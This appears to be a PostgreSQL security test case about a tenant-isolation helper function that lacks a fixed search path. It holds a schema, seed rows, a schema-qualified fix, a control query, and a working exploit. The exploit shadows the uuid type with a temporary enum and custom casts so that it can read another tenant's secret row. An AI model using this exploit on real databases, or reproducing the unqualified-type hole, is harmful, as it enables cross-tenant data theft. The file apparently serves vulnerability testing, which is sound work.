-- What: The policies' helper gives a tenant to one login alone, and has no search path: a temporary type of uuid's name comes first.
-- Class: function_search_path
-- Object: public.current_tenant
-- Exploit: A type uuid of the attacker's own, with casts that always give tenant B: the helper asks who the session is, too.
-- @schema
create function current_tenant() returns uuid language sql stable as $$ select case when session_user = 'app_user'
  then nullif(current_setting('app.tenant_id', true), '')::uuid end $$;
create table orders (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table orders enable row level security;
alter table orders force row level security;
create policy tenant on orders using (tenant_id = (select current_tenant()));
grant select, insert, update, delete on orders to app_user;
-- @rows
insert into orders (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
create or replace function current_tenant() returns uuid language sql stable
  as $$ select case when session_user = 'app_user' then nullif(current_setting('app.tenant_id', true), '')::pg_catalog.uuid end $$;
-- @control
select from orders where tenant_id = :'A';
-- @exploit
create type pg_temp.uuid as enum (:'B');
create function pg_temp.always(text) returns pg_temp.uuid language sql as $$ select enum_first(null::pg_temp.uuid) $$;
create function pg_temp.back(pg_temp.uuid) returns pg_catalog.uuid language sql as $$ select $1::text::pg_catalog.uuid $$;
create cast (text as pg_temp.uuid) with function pg_temp.always(text);
create cast (pg_temp.uuid as pg_catalog.uuid) with function pg_temp.back(pg_temp.uuid) as implicit;
select body from orders where body = 'B-secret';
